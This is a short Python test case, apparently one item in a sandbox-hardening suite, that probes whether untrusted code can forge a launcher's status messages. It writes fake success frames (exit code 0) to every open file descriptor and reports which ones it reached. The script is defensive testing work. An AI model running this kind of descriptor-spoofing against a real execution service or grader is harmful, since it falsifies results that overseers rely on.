# ---
# id: 58
# name: forged-frames
# title: Write the launcher's own messages to every descriptor there is
# class: resources
# techniques: [T1036, T1565.002]
# defences: [no descriptor but the three streams]
# control: {}
# ---
"""The service believes its launcher. If user code could reach that line, it could write its own verdict."""
import json
import os
import struct
import sys

if sys.argv[2] == "control":
    os.pipe()
verdict = b'{"exitCode":0,"signal":null,"killedBy":null}'
frames = b"".join(struct.pack(">IBBI", len(verdict), 1, kind, 1) + verdict for kind in range(0x80, 0x90))
found = []
for fd in range(3, 65_536):
    try:
        os.fstat(fd)
    except OSError:
        continue
    try:
        os.write(fd, frames)
        found.append(f"{fd} written")
    except OSError as error:
        found.append(f"{fd} {error.strerror}")
for fd in (1, 2):
    os.write(fd, frames + b"\n")
print(json.dumps({"reached": bool(found), "saw": f"descriptors above 2: {', '.join(found) or 'none'}"}))
